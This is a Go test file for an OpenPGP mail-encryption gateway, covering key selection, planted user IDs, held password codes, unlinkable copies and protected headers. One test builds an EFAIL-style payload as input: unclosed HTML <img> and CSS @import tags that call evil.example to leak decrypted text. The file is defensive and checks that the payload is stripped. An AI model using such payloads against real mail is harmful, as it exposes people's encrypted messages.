package test

import (
	"bytes"
	"fmt"
	"mime"
	"strings"
	"testing"
	"time"

	"github.com/ProtonMail/go-crypto/openpgp"
	"github.com/ProtonMail/go-crypto/openpgp/armor"
	"github.com/ProtonMail/go-crypto/openpgp/packet"

	"postvern.example/internal/sink"
)

// withUserID returns Peter's key with one user id more, as it is written.
func withUserID(t *testing.T, e *openpgp.Entity, id string, also func(*openpgp.Entity)) string {
	t.Helper()
	if also != nil {
		also(e)
		return armored(t, e)
	}
	var out bytes.Buffer
	w, err := armor.Encode(&out, openpgp.PublicKeyType, nil)
	if err == nil {
		err = e.PrimaryKey.Serialize(w)
	}
	for _, own := range e.Identities {
		if err == nil {
			err = packet.NewUserId("", "", id).Serialize(w) // nobody has signed it
		}
		if err == nil {
			err = own.UserId.Serialize(w)
		}
		if err == nil {
			err = own.SelfSignature.Serialize(w)
		}
	}
	for _, sub := range e.Subkeys {
		if err == nil {
			err = sub.PublicKey.Serialize(w)
		}
		if err == nil {
			err = sub.Sig.Serialize(w)
		}
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	return out.String()
}

func TestAKeyThatSomebodySlippedInOpensNothing(t *testing.T) {
	peter := pgpKey(t, "peter@post.example", 0)
	stranger := pgpKey(t, "stranger@post.example", 0)
	for name, key := range map[string]string{
		"Peter's key in Mette's file":            armored(t, peter),
		"her user id, which nobody signed":       withUserID(t, peter, "mette@post.example", nil),
		"her user id, signed by a stranger only": withUserID(t, peter, "", func(e *openpgp.Entity) { foreign(t, e, stranger, "mette@post.example") }),
	} {
		t.Run(name, func(t *testing.T) {
			g := install(t, nil, sink.Config{})
			g.write("keys/mette@post.example.asc", key)
			g.start()
			if m := g.toMette(); m != nil {
				t.Fatalf("it was sent:\n%s", m.Content)
			}
			entries := g.register()
			if told := noticeText(t, g.arrived(2)); len(entries) == 0 || !strings.Contains(told, "brugbar krypteringsnøgle") {
				t.Errorf("nobody hears of it: %v\n%s", entries, told)
			}
		})
	}
}

// foreign adds a user id that another key has signed, and its own has not.
func foreign(t *testing.T, e, by *openpgp.Entity, address string) {
	t.Helper()
	config := &packet.Config{Time: func() time.Time { return time.Now().Add(-time.Minute) }}
	if err := by.AddUserId("", "", address, config); err != nil {
		t.Fatal(err)
	}
	for name, id := range by.Identities {
		if strings.Contains(name, address) {
			e.Identities[name] = id
		}
	}
}

func TestOfSeveralEncryptionSubkeysOnlyAGoodOneIsUsed(t *testing.T) {
	hour := func(n int) time.Time { return time.Now().Add(time.Duration(n) * time.Hour) }
	subkey := func(t *testing.T, e *openpgp.Entity, made time.Time, lasts time.Duration) *openpgp.Subkey {
		t.Helper()
		if err := e.AddEncryptionSubkey(&packet.Config{Algorithm: packet.PubKeyAlgoEdDSA, KeyLifetimeSecs: uint32(lasts / time.Second), Time: func() time.Time { return made }}); err != nil {
			t.Fatal(err)
		}
		return &e.Subkeys[len(e.Subkeys)-1]
	}
	for name, change := range map[string]func(t *testing.T, e *openpgp.Entity) (good uint64){
		"an expired one": func(t *testing.T, e *openpgp.Entity) uint64 {
			subkey(t, e, hour(-1), time.Minute)
			return e.Subkeys[0].PublicKey.KeyId
		},
		"one not yet valid": func(t *testing.T, e *openpgp.Entity) uint64 {
			subkey(t, e, hour(5), 0)
			return e.Subkeys[0].PublicKey.KeyId
		},
		"a newer one": func(t *testing.T, e *openpgp.Entity) uint64 {
			return subkey(t, e, hour(0).Add(-time.Minute), 0).PublicKey.KeyId
		},
		"a revoked newer one": func(t *testing.T, e *openpgp.Entity) uint64 {
			revoke(t, e, subkey(t, e, hour(0).Add(-time.Minute), 0))
			return e.Subkeys[0].PublicKey.KeyId
		},
		"a revoked one alone": func(t *testing.T, e *openpgp.Entity) uint64 { revoke(t, e, &e.Subkeys[0]); return 0 },
	} {
		t.Run(name, func(t *testing.T) {
			e := pgpKey(t, "mette@post.example", 0)
			good := change(t, e)
			g := install(t, nil, sink.Config{})
			g.write("keys/mette.asc", armored(t, e))
			g.start()
			m := g.toMette()
			if good == 0 {
				if m != nil {
					t.Fatalf("it was sent:\n%s", m.Content)
				}
				if len(g.register()) == 0 {
					t.Error("the register has nothing of it")
				}
				return
			}
			if m == nil {
				t.Fatalf("it was held: %+v", g.keys("list"))
			}
			at := bytes.Index(m.Content, []byte("-----BEGIN PGP MESSAGE"))
			block, err := armor.Decode(bytes.NewReader(m.Content[at:]))
			if err != nil {
				t.Fatal(err)
			}
			md, err := openpgp.ReadMessage(block.Body, openpgp.EntityList{e}, nil, nil)
			if md == nil || len(md.EncryptedToKeyIds) != 1 || md.EncryptedToKeyIds[0] != good {
				t.Errorf("it is sealed to %v, not %X: %v", md, good, err)
			}
		})
	}
}

func revoke(t *testing.T, e *openpgp.Entity, sub *openpgp.Subkey) {
	t.Helper()
	if err := e.RevokeSubkey(sub, packet.KeyCompromised, "", &packet.Config{Time: func() time.Time { return time.Now().Add(-30 * time.Second) }}); err != nil {
		t.Fatal(err)
	}
}

func TestACiphertextStandsAloneWhateverHTMLIsInTheMail(t *testing.T) {
	e := pgpKey(t, "mette@post.example", 0)
	g := install(t, nil, sink.Config{})
	g.write("keys/mette.asc", armored(t, e))
	g.start()
	mail := "From: tr.anna@forening.example\nTo: mette@post.example\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n" +
		"--b\nContent-Type: text/html; charset=utf-8\n\n<p>CPR-nr. 070761-4285</p><img src=\"http://evil.example/?\n" +
		"--b\nContent-Type: text/html\n\n<style>@import 'http://evil.example/\n--b--\n"
	if err := g.send("anna", "tr.anna@forening.example", []string{"mette@post.example"}, mail); err != nil {
		t.Fatal(err)
	}
	raw := onlyMail(t, g.arrived(2), g.log)
	m := parse(t, raw)
	media, params, err := mime.ParseMediaType(m.Header.Get("Content-Type"))
	if err != nil || media != "multipart/encrypted" || strings.Count(string(raw), "\r\n--"+params["boundary"]) != 3 {
		t.Errorf("%s %v:\n%s", media, err, raw)
	}
	for _, clear := range []string{"text/html", "evil", "<img", "<p>", "text/plain"} {
		if bytes.Contains(raw, []byte(clear)) {
			t.Errorf("%q stands beside the ciphertext", clear)
		}
	}
}

func TestACodeThatItsSenderMailsAfterItsDocumentIsHeld(t *testing.T) {
	policy := strings.Replace(protectedPolicy, "do: encrypt\n    without-key: hold\n    severity: high", "do: encrypt\n    without-key: password\n    severity: high", 1)
	for name, body := range map[string]string{
		"alone":               "Hej Mette\n\nKode: %s\n",
		"in a sentence":       "Hej Mette, koden er %s, mvh Anna\n",
		"the notice, forward": "Hej Mette, se her:\n\n> Kode: %s\n>\n> Giv koden videre på telefon.\n",
	} {
		t.Run(name, func(t *testing.T) {
			g := gateway(t, files{"policy.yaml": policy})
			if err := g.send("anna", "tr.anna@forening.example", []string{"mette@post.example"}, caseWithFile); err != nil {
				t.Fatal(err)
			}
			code := codeLine.FindStringSubmatch(noticeText(t, g.arrived(2)))
			if code == nil {
				t.Fatal("no code")
			}
			mail := "From: Anna Holm <anna.holm@region.example>\nTo: mette@post.example\nSubject: hej\n\n" + fmt.Sprintf(body, code[1])
			if err := g.send("anna", "anna.holm@region.example", []string{"mette@post.example"}, mail); err != nil {
				t.Fatal(err)
			}
			if held := g.heldRules(); len(held) != 1 || held[0] != "mette@post.example: a password beside its file" {
				t.Fatalf("held: %v", held)
			}
			for _, m := range g.upstream.Messages() {
				if m.Recipients()[0] != "tr.anna@forening.example" && bytes.Contains(m.Content, []byte(code[1])) {
					t.Errorf("the code was mailed to %s", m.Recipients())
				}
			}
			if len(g.register()) < 2 {
				t.Errorf("the register says %v", g.register())
			}
			g.nowhere(code[1])
		})
	}
}

func TestACoverTellsNothingOfWhatIsInItsDocument(t *testing.T) {
	need(t, "pdftotext")
	g := gateway(t, files{"policy.yaml": documentPolicy})
	size := func(more string) int {
		have := len(g.upstream.Messages())
		mail := strings.Replace(caseWithFile, "SGVtbWVsaWcgZmlsIQo=\n", more+"SGVtbWVsaWcgZmlsIQo=\n", 1)
		mail = strings.Replace(mail, "<77@", fmt.Sprintf("<%d@", have), 1)
		if err := g.send("anna", "tr.anna@forening.example", []string{"mette@post.example"}, mail); err != nil {
			t.Fatal(err)
		}
		raw := onlyMail(t, g.arrived(have + 2)[have:], g.log)
		cover, _, file := enclosed(t, raw)
		for _, tells := range []string{"loenseddel", "octet-stream", "Filespec", "EmbeddedFile", "EmbeddedFiles", "/Size 14", "Params"} {
			if bytes.Contains(file, []byte(tells)) {
				t.Errorf("the document shows %q without its code", tells)
			}
			if strings.Contains(cover, tells) {
				t.Errorf("the cover shows %q", tells)
			}
		}
		return len(file)
	}
	sizes := map[int]bool{}
	for n := range 4 {
		sizes[size(strings.Repeat("QUFB", n*3))] = true
	}
	if len(sizes) > 2 {
		t.Errorf("files of nearly one size make documents of %d sizes", len(sizes))
	}
}

func TestNothingTiesTheCopiesOfOneMailTogether(t *testing.T) {
	const readers = 12
	g := install(t, files{"members.csv": "E-mail\nnobody@post.example\n"}, sink.Config{})
	var to []string
	for n := range readers {
		address := fmt.Sprintf("reader%d@post.example", n)
		g.write(fmt.Sprintf("keys/%d.asc", n), armored(t, pgpKey(t, address, 0)))
		to = append(to, address)
	}
	g.start()
	mail := "From: Anna Holm <tr.anna@forening.example>\nTo: undisclosed-recipients:;\nSubject: TR - fortroligt: sag\nDate: Fri, 20 Nov 2026 08:12:44 +0100\n" +
		"Message-ID: <secret-1@forening.example>\nIn-Reply-To: <before@post.example>\nReferences: <first@post.example> <before@post.example>\n" +
		"X-Ticket: 4711\nUser-Agent: Thunderbird\n\nCPR-nr. 070761-4285\n"
	if err := g.send("anna", "tr.anna@forening.example", to, mail); err != nil {
		t.Fatal(err)
	}
	var copies []sink.Message
	waitFor(t, "all copies", func() bool { copies = mails(g.upstream.Messages()); return len(copies) == readers })
	words := map[string]int{}
	allowed := map[string]bool{"Received": true, "From": true, "To": true, "Subject": true, "Date": true, "Message-Id": true, "Mime-Version": true, "Content-Type": true}
	for _, c := range copies {
		m := parse(t, c.Content)
		for name := range m.Header {
			if !allowed[name] {
				t.Errorf("%s stands outside", name)
			}
		}
		id := m.Header.Get("Message-Id")
		words[id]++
		_, params, err := mime.ParseMediaType(m.Header.Get("Content-Type"))
		if err != nil {
			t.Fatal(err)
		}
		words[params["boundary"]]++
		local, _, _ := strings.Cut(strings.Trim(id, "<>"), "@")
		for at := 0; at+8 <= len(local); at++ { // pieces of ids tell as well
			words[local[at:at+8]]++
		}
		for _, tells := range []string{"secret-1", "before@", "first@", "4711", "Thunderbird", "sag\r", "0100", "PV-"} {
			if bytes.Contains(c.Content, []byte(tells)) {
				t.Errorf("%q stands outside", tells)
			}
		}
	}
	for word, n := range words {
		if n > 1 {
			t.Errorf("%q stands in %d copies", word, n)
		}
	}
}

func TestAProtectedHeaderUnderASignatureIsNoWayRound(t *testing.T) {
	mail := func(outer, protected string) string {
		return "From: Anna Holm <tr.anna@forening.example>\nDate: Fri, 20 Nov 2026 08:12:44 +0100\nMIME-Version: 1.0\n" + outer +
			"Content-Type: multipart/signed; boundary=s; micalg=pgp-sha256; protocol=\"application/pgp-signature\"\n\n--s\n" + protected +
			"Content-Type: text/plain; charset=utf-8; protected-headers=\"v1\"; hp=\"clear\"\n\nHej, CPR-nr. 070761-4285.\n" +
			"--s\nContent-Type: application/pgp-signature; name=\"signature.asc\"\n\n-----BEGIN PGP SIGNATURE-----\n\nAAAA\n-----END PGP SIGNATURE-----\n--s--\n"
	}
	both := "To: mette@post.example, peter@post.example\n"
	number := "Subject: sag [sms:+45 22 33 44 55]\n"
	for name, c := range map[string]struct {
		mail string
		to   []string
	}{
		"names the readers":      {mail(both+"Subject: sag\n", both+"Subject: sag\n"), []string{"mette@post.example", "peter@post.example"}},
		"keeps the phone number": {mail("To: mette@post.example\n"+number, "To: mette@post.example\n"+number), []string{"mette@post.example"}},
	} {
		t.Run(name, func(t *testing.T) {
			g := gateway(t, files{"policy.yaml": documentPolicy})
			if err := g.send("anna", "tr.anna@forening.example", c.to, c.mail); err != nil {
				t.Fatal(err)
			}
			if held := g.heldRules(); len(held) != len(c.to) || !strings.Contains(held[0], "recipients.header") {
				t.Errorf("held: %v", held)
			}
			if sent := mails(g.upstream.Messages()); len(sent) > 0 {
				t.Errorf("it was sent:\n%s", sent[0].Content)
			}
		})
	}
}
